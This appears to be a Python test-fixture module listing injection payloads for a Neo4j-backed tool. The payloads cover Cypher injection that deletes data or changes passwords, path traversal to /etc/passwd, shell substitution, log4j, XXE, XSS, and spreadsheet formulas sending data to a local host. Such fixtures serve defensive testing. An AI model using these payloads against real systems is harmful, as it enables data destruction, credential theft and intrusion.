"""Payloads that try to get from a value into a statement, a shell, a file, a terminal or a page, with what each tries."""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    """A value as an attacker would write it into a document, a file name or a table."""

    tries: str
    text: str


CANARY = "canary.csv"

PAYLOADS = tuple(
    Payload(*each)
    for each in (
        # Out of a quoted string.
        ("end a string and create a node", "x'}) CREATE (:Evil {a: 'b"),
        ("end a string with double quotes", 'x"}) CREATE (:Evil {a: "b'),
        ("end a string and delete all", "' DETACH DELETE n //"),
        ("end a condition and match all", "' OR 1=1 //"),
        ("end a condition by a union", "' RETURN 1 AS n UNION MATCH (n) DETACH DELETE n //"),
        ("escape the closing quotation mark", "x\\"),
        ("escape and end", "\\' CREATE (:Evil) //"),
        ("escape by Unicode", "\\u0027}) CREATE (:Evil) //"),
        ("escape by Unicode twice", "\\\\u0027}) CREATE (:Evil) //"),
        ("quote by a typographic mark", "x\u2019}) CREATE (:Evil) //"),
        ("quote by a full-width mark", "x\uff07}) CREATE (:Evil) //"),
        ("end by a line", "x\nCREATE (:Evil)\n//"),
        ("end by a carriage return", "x //\rCREATE (:Evil)"),
        ("end by a line separator", "x\u2028CREATE (:Evil)"),
        ("end by a zero byte", "x\x00'}) CREATE (:Evil) //"),
        ("begin a comment", "/* x"),
        ("end a comment", "*/ CREATE (:Evil) /*"),
        ("end the statement", "x; MATCH (n) DETACH DELETE n;"),
        # Out of a label, a relationship type or a property name.
        ("end a label", "Person` DETACH DELETE n //"),
        ("end a label and add one", "Person`:`Admin"),
        ("double backticks", "Person``) CREATE (:Evil) //"),
        ("end a label by a bracket", "Person) DETACH DELETE n //"),
        ("add a label", "Person:Evil"),
        ("add labels by signs", "Person&Evil|Admin"),
        ("add properties", "Person {admin: true}"),
        ("backtick by Unicode", "Person\\u0060:Evil"),
        ("a label of graphmill", "Entity"),
        ("a bookkeeping label", "GraphmillLease"),
        ("a relationship type of graphmill", "RESOLVES_TO"),
        ("end a relationship type", "KNOWS]->() DETACH DELETE n //"),
        ("a dynamic label", "$(x)"),
        ("a property of graphmill", "mergedInto"),
        ("a map", "{id: 'schema', version: 99}"),
        ("a type from a prototype", "__proto__"),
        # Files, addresses, procedures, settings.
        ("load a file", f"x'}}) LOAD CSV FROM 'file:///{CANARY}' AS l CREATE (:Evil {{l: l}}) //"),
        ("load an address", "x' LOAD CSV FROM 'http://127.0.0.1:1/' AS l RETURN l //"),
        ("run a procedure", "x' CALL dbms.listConfig() YIELD value RETURN value //"),
        ("run a procedure of APOC", "x' CALL apoc.export.csv.all('evil.csv', {}) //"),
        ("change a password", "x'; ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'; //"),
        ("drop a constraint", "x'; DROP CONSTRAINT graphmill_document; //"),
        ("commit in parts", "x' CALL { CREATE (:Evil) } IN TRANSACTIONS //"),
        ("a path upwards", f"../../../{CANARY}"),
        ("an absolute path", "/etc/passwd"),
        ("a file address", "file:///etc/passwd"),
        ("an environment variable", "${NEO4J_PASSWORD}"),
        ("a format string", "{0.__class__.__init__.__globals__} %(password)s %s%n"),
        ("a template", "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7}"),
        ("a look-up of log4j", "${jndi:ldap://127.0.0.1:1/x}"),
        # Shells and processes.
        ("a command of a shell", f"; touch {CANARY}.made #"),
        ("a substitution of a shell", f"$(touch {CANARY}.made)`touch {CANARY}.made`"),
        ("an option of a command", "--output=/etc/passwd"),
        # Search syntax.
        ("a field of Lucene", "name:* OR _exists_:x"),
        ("all of Lucene's signs", '+ - && || ! ( ) { } [ ] ^ " ~ * ? : \\ /'),
        ("an open expression of Lucene", '/(a+)+$/ AND "never closed'),
        ("a slow expression", "(a+)+$" + "a" * 60 + "!"),
        # Terminals, pages, tables, markup.
        ("a colour and a title of a terminal", "\x1b[31mred\x1b]0;owned\x07"),
        ("a control character of eight bits", "\x9b2J\x9d0;owned\x9c"),
        ("a name that reads backwards", "invoice\u202efdp.exe"),
        ("a script of a page", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
        ("a link of markdown", "[x](javascript:alert(1)) | ![x](http://127.0.0.1:1/p.png)"),
        ("an entity of XML", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>]]>'),
        ("a formula of a spreadsheet", '=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")'),
        ("a command of a spreadsheet", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("a row of a table", 'x","y"\r\n"z'),
        ("a line of JSON", '"}\n{"id": "dec_0", "verdict": "hide"'),
        ("a table of TOML", 'x"\n[store]\nkind = "neo4j'),
        # Numbers and lengths.
        ("a number too large", "9" * 400),
        ("a name too long for an index", "A" * 40_000),
        ("letters that grow when folded", "\ufb03\u0130\u1e9e" * 20),
        ("half a character", "x\ud800y"),
    )
)
